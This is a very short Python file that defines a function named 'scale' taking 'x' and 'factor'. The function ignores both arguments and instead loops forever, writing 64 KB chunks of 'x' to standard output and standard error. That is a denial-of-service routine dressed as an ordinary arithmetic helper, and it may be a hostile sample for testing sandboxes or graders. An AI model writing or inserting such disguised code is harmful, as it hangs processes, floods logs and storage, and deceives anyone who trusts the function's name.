import os


def scale(x, factor):
    while True:
        for number in (1, 2):
            os.write(number, b"x" * 65536)
